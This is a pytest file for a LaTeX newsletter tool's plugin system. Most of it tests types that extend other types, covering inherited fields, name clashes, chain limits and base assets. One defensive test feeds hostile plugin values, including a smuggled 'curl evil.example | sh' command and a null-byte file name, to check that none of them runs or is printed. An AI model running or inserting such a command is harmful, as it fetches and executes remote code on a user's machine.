"""Types that extend others: what they have of them, and what does not fit."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Annotated

import pytest

from command import jianbao
from fence import FENCE
from jianbao_tex.hooks import Block, BlockType, SectionType, hookimpl
from jianbao_tex.parts import Line, PictureOf
from jianbao_tex.registry import Plugin, gather
from jianbao_tex.registry.extending import extended
from jianbao_tex.testing import Project
from jianbao_tex.testing.project import plugin_at
from test_plugin_assets import png
from test_plugin_needs import BASE, MORE, absences, plugin

SECTION = '[section_types.{name}]\nlabel = "{name}"\ntemplate = "base.tex.jinja"\n{more}\n'
FIELD = '[section_types.{name}.fields]\n{key} = {{ type = "line", label = "{label}", example = "甲" }}\n'
BLOCKS = """
[blocks.motto]
label = "箴言"
short = "words"

[blocks.motto.fields]
words = { type = "line", label = "字", required = true, example = "甲" }

[blocks.signed]
label = "署名箴言"
extends = "motto"

[blocks.signed.fields]
who = { type = "choice", label = "谁", choices = ["孔子", "老子"], example = "孔子" }
"""


def test_a_block_has_the_fields_of_the_one_that_it_extends(tmp_path: Path) -> None:
    home = plugin(tmp_path, "aa", BLOCKS)
    (home / "motto.tex.jinja").write_text("\n<%= block.words %>\n", "utf-8")
    more = '<% include "block:motto" %>\n<% if block.who %>\n\n<%= block.who %>\n<% endif %>\n'
    (home / "signed.tex.jinja").write_text(more, "utf-8")
    text = (
        "masthead: {name: 简报}\narticles:\n  title: 题\n  body:\n"
        "    - signed: {words: 学而时习之, who: 孔子}\n    - 署名箴言: 道可道\n"
    )
    build = Project(tmp_path, [home], FENCE).build(text)

    assert (build.exit_code, build.codes) == (0, []), build.findings
    assert "学而时习之孔子道可道" in build.page_texts[0]


def test_names_of_files_stay_names_of_files_in_both() -> None:
    """What a model does not print, the other one does not make a text of."""

    class Named(Block):
        name = "named"
        name_fields = frozenset({"code"})
        code: Line

        def texts(self):  # type: ignore[no-untyped-def]
            yield from ()

    class Shown(Block):
        name = "shown"
        file: Annotated[Line, PictureOf()]

        def texts(self):  # type: ignore[no-untyped-def]
            yield from ()

    template = Path("a.tex.jinja")
    record = extended(BlockType("乙", Shown, template), BlockType("甲", Named, template))

    assert record.model.unprinted() == {"code", "file"}
    assert record.name == "shown"


@pytest.mark.parametrize(
    ("label", "key", "said"),
    [
        # The property of the base with this name would hide the field.
        ("末", "title_line", "both have the name title_line"),
        ("题", "last", "two fields have the title 题"),
    ],
)
def test_what_would_hide_something_is_refused(
    tmp_path: Path, label: str, key: str, said: str
) -> None:
    types = BASE + SECTION.format(name="more", more='extends = "base"')
    types += FIELD.format(name="more", key=key, label=label)
    found = absences(plugin_at(plugin(tmp_path, "bb", types)))

    assert any(said in message for message in found), found


def test_a_long_chain_ends_and_costs_little(tmp_path: Path) -> None:
    names = [f"a{n:03}" for n in range(300)]
    types = BASE + "".join(
        SECTION.format(name=name, more=f'extends = "{base}"')
        + FIELD.format(name=name, key=f"f{name}", label=f"字{name}")
        for name, base in zip(names, ["base", *names], strict=False)
    )
    registry = gather([plugin_at(plugin(tmp_path, "bb", types))])

    assert len(registry.section_types["a018"].model.model_fields) == 2 + 1 + 19
    assert "a019" not in registry.section_types
    said = [str(a.finding.message) for a in registry.absences if a.name in {"a019", "a299"}]
    assert all("more than 20 types extend one another" in message for message in said)
    assert len(said) == 2


@pytest.mark.parametrize("extends", [["aa"], [], None, 1])
def test_an_extends_of_another_type_is_refused(tmp_path: Path, extends: object) -> None:
    home = plugin(tmp_path, "bb", BASE)
    record = gather([plugin_at(home)]).section_types["base"]

    class Hooks:
        @hookimpl
        def jianbao_section_types(self) -> list[SectionType]:
            return [SectionType("own", "自", record.model, record.template, extends=extends)]  # type: ignore[arg-type]

    found = absences(Plugin("own", Hooks(), home=home))

    assert any("its extends is not the name of a type" in message for message in found), found


def test_the_base_brings_its_pictures(tmp_path: Path) -> None:
    base = plugin(tmp_path, "aa", BASE)
    (base / "assets").mkdir()
    (base / "assets" / "aa-logo.png").write_bytes(png())
    template = (base / "base.tex.jinja").read_text("utf-8")
    (base / "base.tex.jinja").write_text(
        '<% set p = asset("aa-logo.png") %>\n\\jbPicture{<%= p.name %>}{0.3}{<%= p.ratio %>}\n'
        + template,
        "utf-8",
    )
    more = plugin(tmp_path, "bb", MORE)
    text = "masthead: {name: 简报}\nsections: [{type: more, 题: 甲, 末: 乙}]\n"
    build = Project(tmp_path, [more, base], FENCE).build(text)

    assert (build.exit_code, build.codes) == (0, []), build.findings
    assert build.tree
    assert "aa-logo.png" in build.tree.assets


def test_what_a_file_says_before_it_runs_harms_nobody(department: Path) -> None:
    """A file that is not trusted is read; no value in it ends a command or gets to a screen."""
    values = [
        f"JIANBAO_REQUIRES = (0x{'f' * 6000},)",
        "JIANBAO_REQUIRES = {1: 2}",
        "JIANBAO_REQUIRES = [name for name in ()]",
        'JIANBAO_TEX = {"a\\0b.sty": "x"}',
        'JIANBAO_TEX = {"x.sty": "foo; curl evil.example | sh", "y\\n.sty": "z\\nok  TeX fine"}',
        f"JIANBAO_TEX = {{0x{'f' * 6000}: 1}}",
    ]
    for number, value in enumerate(values):
        (department / "plugins" / f"p{number}.py").write_text(value + "\n", "utf-8")
    checked = jianbao("check", "issue.yaml", folder=department)
    trusted = jianbao("check", "issue.yaml", "--trust-plugins", folder=department)
    doctor = jianbao("doctor", folder=department)

    assert (checked.returncode, trusted.returncode) == (0, 0)
    assert trusted.stderr.count("JB546") == len(values) + 1
    assert "Traceback" not in checked.stderr + trusted.stderr + doctor.stderr
    assert "curl" not in doctor.stdout
    assert "TeX fine" not in doctor.stdout


def test_a_required_plugin_that_cannot_be_imported_takes_others_along(department: Path) -> None:
    (department / "plugins" / "aa.py").write_text(
        '__version__ = "1.0"\nraise RuntimeError\n', "utf-8"
    )
    (department / "plugins" / "bb.py").write_text('JIANBAO_REQUIRES = "aa>=1.0"\n', "utf-8")
    said = json.loads(
        jianbao("check", "issue.yaml", "--trust-plugins", "--json", folder=department).stdout
    )

    assert [(f["code"], f["plugin"]) for f in said["plugins"]] == [("JB505", "aa"), ("JB546", "bb")]
